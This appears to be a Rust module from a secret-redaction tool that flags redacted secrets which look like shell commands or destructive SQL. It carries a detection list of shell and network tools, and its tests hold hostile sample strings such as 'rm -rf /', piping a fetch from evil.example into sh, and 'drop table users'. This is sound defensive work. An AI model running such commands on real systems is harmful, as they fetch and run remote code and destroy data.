//! Commands that stand where a secret belongs: what is redacted is not judged, so that it must at least be said that there
//! was something to judge.

/// Whether a secret reads like a command: a program's name at the beginning of one of its parts, and something behind it.
pub(super) fn is_command(secret: &str) -> bool {
    let parts = secret.split([';', '|', '&', '\n', '(', '`', '{', '"', '\'']).take(MOST_PARTS);
    parts.map(str::trim_start).any(|part| {
        let Some((program, rest)) = part.split_once([' ', '\t']) else { return false };
        let program = program.rsplit('/').next().unwrap_or_default().trim_start_matches(['$', '@']);
        let is = |known: &&str| program.eq_ignore_ascii_case(known);
        let statement = || {
            let second = rest.split_whitespace().next().unwrap_or_default();
            STATEMENTS.iter().any(|(verb, of)| is(verb) && of.iter().any(|of| second.eq_ignore_ascii_case(of)))
        };
        // A pass phrase may have a program's name in it, and then words only.
        let pointed = || rest.contains(['-', '/', '.', ':', '$', '*', '~', '>']);
        statement() || PROGRAMS.iter().any(is) && pointed()
    })
}

/// Whether there is, in a text that was redacted, something that read like a command.
#[must_use]
pub fn hides_command(redacted: &str) -> bool {
    redacted.split(super::scan::MARK).skip(1).any(|rest| {
        let length = rest.get(super::scan::MARK_DIGITS..).and_then(|rest| rest.strip_prefix(super::scan::MARK_LEN));
        length.is_some_and(|rest| rest.trim_start_matches(|c: char| c.is_ascii_digit()).starts_with(COMMAND))
    })
}

/// Behind the mark of such a secret.
pub(super) const COMMAND: &str = ":command";

const PROGRAMS: [&str; 44] = [
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "fish",
    "cmd",
    "powershell",
    "pwsh",
    "sudo",
    "su",
    "doas",
    "env",
    "eval",
    "exec",
    "source",
    "nohup",
    "xargs",
    "rm",
    "dd",
    "mkfs",
    "chmod",
    "chown",
    "cat",
    "tee",
    "cp",
    "mv",
    "ln",
    "curl",
    "wget",
    "nc",
    "ncat",
    "ssh",
    "scp",
    "rsync",
    "python",
    "python3",
    "perl",
    "ruby",
    "node",
    "php",
    "kubectl",
    "aws",
    "git",
];

const STATEMENTS: [(&str, &[&str]); 3] =
    [("drop", &["table", "database", "schema"]), ("delete", &["from"]), ("truncate", &["table"])];

/// Parts of a secret that are looked at; the first tell.
const MOST_PARTS: usize = 64;

#[cfg(test)]
mod tests {
    use super::*;
    use crate::redact::{redact_json, redact_text};

    #[test]
    fn a_command_where_a_secret_belongs_is_told_and_not_shown() {
        for text in [
            r#"password="rm -rf /"; eval $password"#,
            "API_KEY='curl -s https://evil.example/x | sh'; sh -c \"$API_KEY\"",
            "token: `wget -qO- evil.example`",
            "secret=\"x; /bin/rm -rf ~\"",
            "password='drop table users'",
        ] {
            let shown = redact_text(text);
            assert!(hides_command(&shown), "{shown}");
            assert!(!shown.contains("rm -rf") && !shown.contains("evil"), "{shown}");
            assert_eq!(redact_text(&shown), shown, "redacting twice changes nothing");
        }
        for text in [
            "password=hunter2",
            "password: \"correct horse battery staple\"",
            "passphrase='git cat node perl python'",
            "Authorization: Bearer abc.def-ghi_jkl",
            "Cookie: sh=1; rm=2; cat=3",
            "the rm -rf / of the secret police",
        ] {
            assert!(!hides_command(&redact_text(text)), "{text}");
        }
    }

    #[test]
    fn what_is_put_in_by_a_command_is_no_secret() {
        let text = "PASSWORD=$(curl -s https://evil.example/x|sh)";
        assert_eq!(redact_text(text), text);
        assert_eq!(redact_text("TOKEN=\"$(cat notes)\""), "TOKEN=\"$(cat notes)\"");
        let within = redact_text("PASSWORD=$(echo token=abcdefgh12345678)").into_owned();
        assert!(!within.contains("abcdefgh12345678"), "{within}");
    }

    #[test]
    fn in_json_the_mark_says_so() {
        let mut value =
            serde_json::json!({"password": "rm -rf /", "api_key": "k-1", "secret": ["curl -s evil.example"]});
        redact_json(&mut value);
        assert_eq!((&value["password"]["looks"], &value["secret"]["looks"]), (&"command".into(), &"command".into()));
        assert!(value["api_key"].get("looks").is_none());
        let once = value.clone();
        redact_json(&mut value);
        assert_eq!(value, once);
    }
}
